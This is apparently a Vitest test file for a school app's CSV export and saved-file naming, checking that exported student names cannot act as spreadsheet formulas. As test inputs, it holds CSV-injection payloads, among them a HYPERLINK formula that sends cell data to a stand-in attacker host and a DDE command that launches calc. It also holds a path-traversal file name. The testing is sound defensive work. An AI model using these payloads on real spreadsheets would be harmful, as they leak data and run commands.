import Papa from 'papaparse'
import { expect, it } from 'vitest'
import { fileName, toCsv } from './save-csv.ts'

/** Returns the cells of one row, as a spreadsheet reads them back. */
function readBack(...cells: (string | number)[]): string[] {
  return Papa.parse<string[]>(toCsv(['Student'], [cells]).slice(1), { newline: '\r\n' }).data[1] ?? []
}

it('a CSV file has the header in its first line and each row in a line below it', () => {
  expect(
    toCsv(
      ['Student', 'Times Table'],
      [
        ['Mia C.', 3],
        ['Ben W.', 0],
      ],
    ),
  ).toBe('\uFEFF"Student","Times Table"\r\n"Mia C.",3\r\n"Ben W.",0')
})

it('a CSV file is marked as UTF-8, so that macrons stay', () => {
  const file = new TextEncoder().encode(toCsv(['Student'], [['Tūī Ngāta']]))
  expect([...file.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
  expect(new TextDecoder().decode(file)).toContain('Tūī Ngāta')
})

it.each([
  '=HYPERLINK("https://evil.example/?x="&A1,"Mia")',
  "=cmd|' /C calc'!A0",
  '+1',
  '-1',
  '@SUM(A1:A9)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '=1+1\nsecond line',
  '@SUM(A1)\r\nsecond line',
])('a spreadsheet does not calculate the name %j', (name) => {
  expect(readBack(name)).toEqual([`'${name}`])
})

it.each(['"Mia"', 'Chen, Mia', 'Mia\nChen', "O'Neill", 'Anne-Marie', 'A=B', ' Mia', 'Wīremu 🐧', '李小龙'])(
  'a spreadsheet shows the name %j as it is',
  (name) => {
    expect(readBack(name, 'Room 5')).toEqual([name, 'Room 5'])
  },
)

it.each(['Mia;=1+1;', 'Mia\t=1', 'Mia,=1+1', 'Mia|=1', '";=1+1;"'])(
  'the name %j stays in one cell, whatever delimiter the spreadsheet uses',
  (name) => {
    const file = toCsv([name], []).slice(1)
    for (const delimiter of [',', ';', '\t', '|'])
      expect(Papa.parse<string[]>(file, { delimiter, newline: '\r\n' }).data).toEqual([[name]])
  },
)

it('a number stays a number in a CSV file', () => {
  expect(toCsv(['Streak'], [[-1]])).toBe('\uFEFF"Streak"\r\n-1')
})

it('a CSV file without students has only the header', () => {
  expect(toCsv(['Student', 'Level'], [])).toBe('\uFEFF"Student","Level"')
})

const on = new Date(2026, 1, 9, 23, 30)

it('the name of a saved file says what it contains, with the date in the time zone of the teacher', () => {
  expect(fileName({ content: 'Room 12 Maths, Addition', ending: 'csv' }, on)).toBe(
    'Room 12 Maths, Addition 2026-02-09.csv',
  )
})

it('the name of a saved file keeps macrons', () => {
  expect(fileName({ content: 'Pāngarau, Ākonga', ending: 'csv' }, on)).toBe('Pāngarau, Ākonga 2026-02-09.csv')
})

it('the name of a saved file has no characters that a computer refuses and no invisible ones', () => {
  expect(fileName({ content: '../../Room 5: "A" <b>|*?\u202Ecod', ending: 'csv' }, on)).toBe(
    'Room 5 A b cod 2026-02-09.csv',
  )
})

it('the name of a saved file is cut to 100 characters, and is only the date if no character is allowed', () => {
  expect(fileName({ content: 'ā'.repeat(300), ending: 'csv' }, on)).toHaveLength(100 + ' 2026-02-09.csv'.length)
  expect(fileName({ content: `Room${'🐧'.repeat(300)}`, ending: 'csv' }, on)).toBe(
    `Room${'🐧'.repeat(96)} 2026-02-09.csv`,
  )
  expect(fileName({ content: '???', ending: 'csv' }, on)).toBe('2026-02-09.csv')
})
